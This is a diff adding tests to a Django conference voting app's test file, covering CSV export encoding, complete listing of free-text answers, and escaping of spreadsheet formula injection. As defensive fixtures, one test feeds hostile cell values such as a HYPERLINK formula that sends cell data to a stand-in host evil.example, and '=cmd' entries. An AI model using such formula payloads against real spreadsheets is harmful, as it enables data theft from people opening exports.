@@ -504,10 +504,58 @@ def test_summary_and_csv(drive, live, poll):
     page = drive.get(f"/conference/{live.code}/summary/").content.decode()
     assert "First case" in page and "50% correct" in page and "not shown" in page
     response = drive.get(f"/conference/{live.code}/summary.csv")
-    assert response["Content-Type"] == "text/csv"
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0][:3] == ["order", "case", "shown"]
     adeno = next(row for row in rows if row[5] == "Lung adenocarcinoma")
     assert adeno[6:] == ["1", "50", "yes", "50"]
     assert any(row[1] == "Second case" and row[2] == "" for row in rows)
     assert Client().get(f"/conference/{live.code}/summary.csv").status_code == 302
+
+
+def summary_csv(drive: Client, conference: Conference) -> list[list[str]]:
+    response = drive.get(f"/conference/{conference.code}/summary.csv")
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_the_csv_is_utf8_with_a_byte_order_mark_for_excel(drive, live):
+    act(drive, live, "ask", kind="text", prompt="Which sign?")
+    vote(Client(), live, Question.objects.get(), choice="Signe de Ménétrier")
+    response = drive.get(f"/conference/{live.code}/summary.csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.content.startswith(b"\xef\xbb\xbforder,case,")
+    assert "Signe de Ménétrier" in response.content.decode("utf-8")
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(drive, live, cases):
+    cases[0].title = "=1+1 case"
+    cases[0].save()
+    act(drive, live, "ask", kind="text", prompt="-what is it?")
+    question = Question.objects.get()
+    typed = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1)", "1+1"]
+    for answer in typed:
+        vote(Client(), live, question, choice=answer)
+    Vote.objects.create(question=question, voter="tabbed", choice="\t=cmd")  # stored as is
+    Vote.objects.create(question=question, voter="returned", choice="\r=cmd")
+    rows = summary_csv(drive, live)[1:]
+    answers = {row[5] for row in rows if row[3]}
+    assert answers == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1", "'-2",
+                       "'@SUM(A1)", "1+1", "'\t=cmd", "'\r=cmd"}  # fmt: skip
+    assert {row[1] for row in rows} == {"'=1+1 case", "Second case"}
+    assert {row[3] for row in rows if row[3]} == {"'-what is it?"}
+    assert all(not row[6].startswith("'") for row in rows)  # numbers stay numbers
+
+
+def test_every_free_text_answer_is_on_the_summary_and_in_the_csv(drive, live):
+    act(drive, live, "ask", kind="text", prompt="What is it?")
+    question = Question.objects.get()
+    answers = [f"Answer {n:02}" for n in range(1, 16)]  # 15 distinct answers
+    for answer in answers:
+        vote(Client(), live, question, choice=answer)
+    vote(Client(), live, question, choice="Answer 01")  # the most common
+    assert len(services.question_results_tally(question).rows) == 12  # the bars
+    page = drive.get(f"/conference/{live.code}/summary/").content.decode()
+    assert "Show all 15 answers" in page
+    assert all(f"<li>{answer} · " in page for answer in answers)  # the last three too
+    csv_answers = [row[5] for row in summary_csv(drive, live) if row[3] == "What is it?"]
+    assert csv_answers == answers
